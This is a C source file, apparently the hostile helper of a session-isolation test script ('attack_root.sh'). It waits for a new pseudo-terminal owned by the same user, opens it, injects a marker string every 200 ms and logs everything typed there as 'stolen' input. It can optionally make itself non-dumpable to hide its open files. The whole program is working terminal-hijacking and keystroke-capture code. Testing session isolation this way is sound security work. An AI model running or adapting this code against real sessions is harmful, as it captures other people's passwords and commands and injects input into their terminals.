/* attack_hunter MODE MARK LOG SECONDS: the hostile helper of
 * attack_root.sh, run by the user inside one emergency session to lie in
 * wait for the next one's terminal.  MODE "hide" makes it non-dumpable
 * first (its open files then hidden from the user's other processes),
 * "plain" leaves it dumpable.  It watches /dev/pts for a pty that is new
 * and the user's, opens it at once, writes MARK into it every 200 ms and
 * reads what is typed there, for SECONDS at most; LOG gets a line for
 * each step ("ready pid N", "open pts/N ok" or "open pts/N failed: why",
 * "stole pts/N: bytes"). */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/prctl.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#define MAX_PTS 4096

static FILE *logf;
static unsigned char seen[MAX_PTS];
static int fds[MAX_PTS];
static unsigned char wrote[MAX_PTS];

static void note(const char *fmt, const char *a, const char *b)
{
	fprintf(logf, fmt, a, b);
	fflush(logf);
}

/* Every pty of the user's not seen before, opened; first == 1: only
 * marked as seen (those that were there at start). */
static void scan(int first)
{
	char path[64];
	struct dirent *e;
	struct stat st;
	DIR *d = opendir("/dev/pts");
	long n;

	if (d == NULL)
		return;
	while ((e = readdir(d)) != NULL) {
		n = strtol(e->d_name, NULL, 10);
		if (e->d_name[0] < '0' || e->d_name[0] > '9' || n < 0 || n >= MAX_PTS || seen[n])
			continue;
		(void)snprintf(path, sizeof(path), "/dev/pts/%ld", n);
		if (stat(path, &st) != 0 || st.st_uid != getuid())
			continue;
		seen[n] = 1;
		if (first)
			continue;
		fds[n] = open(path, O_RDWR | O_NOCTTY | O_NONBLOCK);
		note(fds[n] >= 0 ? "open %s ok%s\n" : "open %s failed: %s\n", path + 5,
		     fds[n] >= 0 ? "" : strerror(errno));
	}
	(void)closedir(d);
}

int main(int argc, char **argv)
{
	char buf[512], name[32];
	struct timespec t0, now, last = { 0, 0 };
	long n, i;
	ssize_t r;
	int hide;

	if (argc != 5 || (logf = fopen(argv[3], "a")) == NULL)
		return 2;
	hide = strcmp(argv[1], "hide") == 0;
	if (hide && prctl(PR_SET_DUMPABLE, 0, 0, 0, 0) != 0)
		return 3;
	for (i = 0; i < MAX_PTS; i++)
		fds[i] = -1;
	scan(1);
	(void)snprintf(buf, sizeof(buf), "%ld dumpable %d", (long)getpid(),
		       prctl(PR_GET_DUMPABLE, 0, 0, 0, 0));
	note("ready pid %s%s\n", buf, "");
	clock_gettime(CLOCK_MONOTONIC, &t0);
	n = strtol(argv[4], NULL, 10);
	for (;;) {
		clock_gettime(CLOCK_MONOTONIC, &now);
		if (now.tv_sec - t0.tv_sec >= n)
			break;
		scan(0);
		for (i = 0; i < MAX_PTS; i++) {
			if (fds[i] < 0)
				continue;
			(void)snprintf(name, sizeof(name), "pts/%ld", i);
			while ((r = read(fds[i], buf, sizeof(buf) - 1)) > 0) {
				buf[r] = '\0';
				note("stole %s: %s\n", name, buf);
			}
			if (r == 0 || (r < 0 && errno != EAGAIN)) {
				note("closed %s%s\n", name, "");
				(void)close(fds[i]);
				fds[i] = -1;
			}
		}
		if ((now.tv_sec - last.tv_sec) * 1000 + (now.tv_nsec - last.tv_nsec) / 1000000 >= 200) {
			last = now;
			for (i = 0; i < MAX_PTS; i++)
				if (fds[i] >= 0 && write(fds[i], argv[2], strlen(argv[2])) > 0 && !wrote[i]) {
					wrote[i] = 1;
					note("wrote %s%s\n", "", "");
				}
		}
		(void)usleep(1000);
	}
	note("done%s%s\n", "", "");
	return 0;
}
